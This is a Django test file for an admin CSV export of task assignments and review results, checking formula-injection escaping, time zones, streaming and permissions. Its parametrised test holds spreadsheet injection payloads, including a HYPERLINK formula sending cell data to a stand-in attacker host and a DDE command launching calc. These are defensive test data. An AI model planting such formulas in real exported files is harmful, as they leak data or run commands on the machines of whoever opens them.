"""The assignment export: safe to open in a spreadsheet, and clear about its time zone."""

import csv
import io
from datetime import UTC, datetime

import pytest

from tasks.admin.export import cell
from tasks.models import Assignment
from tasks.services import task_create
from tasks.sessions import person_login

pytestmark = pytest.mark.django_db


@pytest.fixture
def admin_client(client, supervisor):
    client.force_login(supervisor)
    return client


def exported(client) -> list[dict]:
    r = client.get("/admin/tasks/assignment/export/")
    assert r.status_code == 200
    return list(csv.DictReader(io.StringIO(b"".join(r.streaming_content).decode())))


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example/?"&A1, "click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A2)",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_export_neutralises_cells_a_spreadsheet_would_run(admin_client, make_person, text):
    from personnel.models import Person
    from tasks.models import Task

    person = make_person()
    task_create(descriptions=["x"])
    person_login(person_id=person.pk)
    # Written directly: the services strip blanks, older rows or other tools may not have.
    Task.objects.update(description=text)
    Person.objects.update(name=text)  # a name is a cell too
    (row,) = exported(admin_client)
    assert row["task_description"] == "'" + text
    assert row["person_name"] == "'" + text


def test_export_leaves_ordinary_text_alone(admin_client, alice):
    task_create(descriptions=["Inspect lot 7 = batch B; 3-4 units @ line 2"])
    person_login(person_id=alice.pk)
    (row,) = exported(admin_client)
    assert row["task_description"] == "Inspect lot 7 = batch B; 3-4 units @ line 2"
    assert row["person_name"] == "Alice"


def test_export_timestamps_carry_the_sites_zone(admin_client, alice, settings):
    settings.TIME_ZONE = "Europe/Berlin"
    task_create(descriptions=["a"])
    person_login(person_id=alice.pk)
    Assignment.objects.update(assigned_at=datetime(2026, 7, 1, 10, 0, tzinfo=UTC))
    (row,) = exported(admin_client)
    assert row["assigned_at"] == "2026-07-01T12:00:00+02:00"
    assert row["completed_at"] == ""


def test_cell_keeps_numbers_and_none():
    assert cell(-5) == -5 and cell(None) is None and cell("") == ""


# --- the results: one row per review ---

RESULTS = "/admin/tasks/assignment/results/"


@pytest.fixture
def reviewed(alice, bob, supervisor):
    """Two tasks: one disputed then resolved (Alice passed it, Bob failed it with two
    defects), one Alice is still doing (no review)."""
    from tasks.interventions import task_resolve
    from tasks.models import DefectCode, Task
    from tasks.services import NewTask, task_complete

    DefectCode.objects.create(code="SCRATCH", description="A scratch")
    DefectCode.objects.create(code="DENT", description="A dent")
    (task,) = task_create(
        tasks=[NewTask(description="weld", external_id="ERP-1", reviews_required=2)]
    )
    person_login(person_id=alice.pk)
    task_complete(task_id=task.pk, person_id=alice.pk, outcome="pass", notes="fine")
    person_login(person_id=bob.pk)
    task_complete(
        task_id=task.pk,
        person_id=bob.pk,
        outcome="fail",
        notes="=dented",
        defects=["SCRATCH", "DENT"],
    )
    task_resolve(actor=supervisor, task_id=task.pk, outcome="fail", note="Dent confirmed")
    task_create(descriptions=["open"])  # Alice gets it: no review
    return Task.objects.get(pk=task.pk)


def results(client, **params) -> list[dict]:
    r = client.get(RESULTS, params)
    assert r.status_code == 200 and r.streaming
    assert r["Content-Disposition"] == 'attachment; filename="results.csv"'
    return list(csv.DictReader(io.StringIO(b"".join(r.streaming_content).decode())))


def test_results_have_one_row_per_review_with_the_tasks_outcome(admin_client, reviewed):
    first, second = results(admin_client)
    assert list(first) == [
        "task_id",
        "external_id",
        "task_status",
        "final_outcome",
        "reviews_required",
        "reviews_done",
        "resolution_note",
        "person_id",
        "person_name",
        "verdict",
        "defects",
        "notes",
        "assigned_at",
        "completed_at",
    ]
    for row in (first, second):
        assert row["task_id"] == str(reviewed.pk) and row["external_id"] == "ERP-1"
        assert (row["task_status"], row["final_outcome"]) == ("COMPLETED", "fail")
        assert (row["reviews_required"], row["reviews_done"]) == ("2", "2")
        assert row["resolution_note"] == "Dent confirmed"
        assert row["assigned_at"] and row["completed_at"]
    assert (first["person_name"], first["verdict"], first["defects"], first["notes"]) == (
        "Alice",
        "pass",
        "",
        "fine",
    )
    assert (second["person_name"], second["verdict"], second["defects"]) == (
        "Bob",
        "fail",
        "SCRATCH;DENT",
    )
    assert second["notes"] == "'=dented"  # a spreadsheet would run it


def test_results_are_filtered_as_the_list_page(admin_client, reviewed, bob):
    (row,) = results(admin_client, person__id__exact=bob.pk)
    assert row["person_name"] == "Bob"
    (row,) = results(admin_client, outcome__exact="pass")
    assert row["person_name"] == "Alice"
    assert results(admin_client, assigned_at__year="2001") == []


def test_results_are_read_in_chunks_while_streaming(admin_client, reviewed, monkeypatch):
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    monkeypatch.setattr("tasks.admin.export.RESULTS_CHUNK", 1)
    r = admin_client.get(RESULTS)
    with CaptureQueriesContext(connection) as queries:
        body = b"".join(r.streaming_content).decode()
    rows = list(csv.DictReader(io.StringIO(body)))
    assert [row["person_name"] for row in rows] == ["Alice", "Bob"]
    # A query a chunk, while the response streams: two of one review, then an empty one.
    chunks = [q["sql"] for q in queries.captured_queries if "LIMIT 1" in q["sql"]]
    assert len(chunks) == 3


def test_results_need_the_export_permission(client, django_user_model, reviewed):
    from django.contrib.auth.models import Permission

    viewer = django_user_model.objects.create_user(username="viewer", is_staff=True)
    viewer.user_permissions.add(Permission.objects.get(codename="view_assignment"))
    client.force_login(viewer)
    assert client.get(RESULTS).status_code == 403
    assert RESULTS.encode() not in client.get("/admin/tasks/assignment/").content


def test_the_assignment_list_links_the_results_with_its_filters(admin_client, reviewed, bob):
    r = admin_client.get("/admin/tasks/assignment/", {"person__id__exact": bob.pk})
    assert f'{RESULTS}?person__id__exact={bob.pk}"'.encode() in r.content
